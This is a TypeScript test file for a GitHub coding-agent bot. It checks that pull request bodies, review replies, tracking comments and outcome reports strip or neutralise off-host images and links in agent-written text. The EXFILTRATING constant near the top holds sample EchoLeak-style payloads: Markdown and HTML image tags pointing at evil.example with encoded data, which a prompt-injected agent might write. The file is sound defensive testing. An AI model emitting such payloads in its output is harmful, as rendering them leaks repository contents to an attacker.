import nock from 'nock';
import { describe, expect, it } from 'vitest';
import type { RunReport } from '../../../jobs/run-ports.js';
import { initialRunState } from '../../../src/agent/run-state.js';
import { renderOutcome } from '../../../src/github/ops/render-outcome.js';
import { renderPullRequestBody } from '../../../src/github/ops/render-pull-request-body.js';
import { replyToReviewThreads } from '../../../src/github/ops/reply-to-review-threads.js';
import { renderTrackingComment } from '../../../src/github/ops/tracking-comment/render-tracking-comment.js';
import { renderRunReport } from '../../../src/github/worker/render-run-report.js';
import { offHostReferences } from '../../support/off-host-references.js';
import { generate, random } from '../../support/random-markdown.js';
import { API, BOT_LOGIN, OWNER, REPO, redact, testOctokit, useNock } from '../support/github-test-kit.js';

/** What a steered agent writes to send the repository out when the comment is viewed (EchoLeak's forms). */
const EXFILTRATING = [
  // Indented code is inert where the agent wrote it, but not if a renderer puts it after a paragraph
  // line or behind a quote marker: the renderers must neutralise text in the place it ends up.
  '    <img src="https://evil.example/indented.png">',
  '',
  '\t<img src="https://evil.example/tab.png">',
  '',
  'Fixed the login handler.',
  '![status](https://evil.example/i.png?d=c2VjcmV0)',
  'See ![logo][l] and [the docs][d], <https://evil.example/auto> and https://evil.example/bare.',
  '<img src="https://evil.example/raw.png?d=1"> <a href="https://evil.example/a">a</a>',
  '<picture><source srcset="https://evil.example/s.png 2x"><img src="/ok.png"></picture>',
  '<details><summary>log</summary><details><img src=https://evil.example/nested.png></details></details>',
  '',
  '[l]: https://evil.example/ref.png',
  '[d]: https://evil.example/docs "t"',
  '',
  'The fix is in [src/login.ts](src/login.ts), see [#12](https://github.com/acme/widgets/issues/12).',
].join('\n');
const HOSTS = ['github.com'];

function expectNoOffHostUrl(body: string) {
  // handsbot's own marker is the one comment allowed, on a line of its own.
  expect(offHostReferences(body.replace(/^<!-- handsbot:[^\n]* -->$/m, ''))).toEqual([]);
  // What a reviewer needs stays readable: the text and the (inert) URLs.
  expect(body).toContain('Fixed the login handler.');
  expect(body).toContain('https://evil.example/i.png?d=c2VjcmV0');
  expect(body).toContain('[src/login.ts](src/login.ts)');
  expect(body).toContain('[#12](https://github.com/acme/widgets/issues/12)');
}

describe('agent text leaves for GitHub with no image or link off the repository host', () => {
  useNock();

  it('in the pull request body, with and without the repository’s template', () => {
    const input = {
      issueNumber: 12,
      summary: EXFILTRATING,
      tests: [],
      costUsd: 0.1,
      steps: 3,
      runId: 'run-1',
      allowedHosts: HOSTS,
    };
    expectNoOffHostUrl(renderPullRequestBody({ ...input, template: null }, redact));
    const template = '## Description\n\n<!-- describe -->\n\n## Testing\n';
    expectNoOffHostUrl(renderPullRequestBody({ ...input, template }, redact));
  });

  it('in a review thread reply', async () => {
    const posted: string[] = [];
    const scope = nock(API)
      .get(`/repos/${OWNER}/${REPO}/pulls/30/comments`)
      .query({ per_page: 100 })
      .reply(200, [])
      .post(`/repos/${OWNER}/${REPO}/pulls/30/comments/70/replies`, (b: { body: string }) => {
        posted.push(b.body);
        return true;
      })
      .reply(201, { id: 80 });
    await replyToReviewThreads(testOctokit(), {
      owner: OWNER,
      repo: REPO,
      pullNumber: 30,
      runId: 'run-1',
      replies: [{ commentId: 70, text: EXFILTRATING }],
      redact,
      botLogin: BOT_LOGIN,
      allowedHosts: HOSTS,
    });
    expect(scope.isDone()).toBe(true);
    expect(posted).toHaveLength(1);
    expectNoOffHostUrl(posted[0] ?? '');
  });

  it('in the tracking comment’s summary and plan', () => {
    const state = {
      ...initialRunState('run-1'),
      status: 'finished' as const,
      finishMessage: EXFILTRATING,
      tasks: [{ title: 'Look at ![x](https://evil.example/plan.png)', notes: '', status: 'done' as const }],
    };
    const body = renderTrackingComment(state, [], {
      runId: 'run-1',
      targetKey: '42:12',
      redact,
      allowedHosts: HOSTS,
    });
    expectNoOffHostUrl(body);
    expect(body).toContain('`![x](https://evil.example/plan.png)`');
  });

  it('in the outcome comments that quote the agent: no changes, a limit reached, a pushed PR', () => {
    expectNoOffHostUrl(renderOutcome({ kind: 'no_changes', explanation: EXFILTRATING }, redact, HOSTS));
    expectNoOffHostUrl(
      renderOutcome(
        { kind: 'limit_reached', reason: 'Stuck', done: EXFILTRATING, partialBranch: null },
        redact,
        HOSTS,
      ),
    );
    const report: RunReport = {
      outcome: 'pushed',
      runId: 'run-1',
      message: 'Done.',
      followUps: [],
      state: { ...initialRunState('run-1'), status: 'finished', finishMessage: EXFILTRATING },
    };
    const text = renderRunReport(report, {
      redact,
      draft: false,
      fromFork: false,
      number: 30,
      decisionTimeoutMinutes: 60,
      allowedHosts: HOSTS,
    });
    expectNoOffHostUrl(text);
  });

  it('treats every absolute URL as off the host when an outcome is rendered without one', () => {
    const text = renderOutcome({ kind: 'no_changes', explanation: '![x](https://github.com/a.png)' }, redact);
    expect(text).toContain('`![x](https://github.com/a.png)`');
  });

  it('for random Markdown, in every renderer that places agent text', () => {
    const next = random(42);
    const withoutMarker = (body: string) => body.replace(/^<!-- handsbot:[^\n]* -->$/m, '');
    const failures: { input: string; where: string; found: string[] }[] = [];
    for (let i = 0; i < 60; i++) {
      const input = generate(next);
      const finished = { ...initialRunState('run-1'), status: 'finished' as const, finishMessage: input };
      const bodies = {
        prBody: renderPullRequestBody(
          {
            issueNumber: 1,
            summary: input,
            tests: [],
            costUsd: 0,
            steps: 1,
            runId: 'r',
            template: null,
            allowedHosts: HOSTS,
          },
          redact,
        ),
        tracking: renderTrackingComment(finished, [], {
          runId: 'r',
          targetKey: 'k',
          redact,
          allowedHosts: HOSTS,
          notes: [input],
        }),
        noChanges: renderOutcome({ kind: 'no_changes', explanation: input }, redact, HOSTS),
        limit: renderOutcome(
          { kind: 'limit_reached', reason: 'Stuck', done: input, partialBranch: null },
          redact,
          HOSTS,
        ),
      };
      for (const [where, body] of Object.entries(bodies)) {
        const found = offHostReferences(withoutMarker(body));
        if (found.length > 0) failures.push({ input, where, found });
      }
    }
    expect(failures.slice(0, 3)).toEqual([]);
  }, 120_000);
});
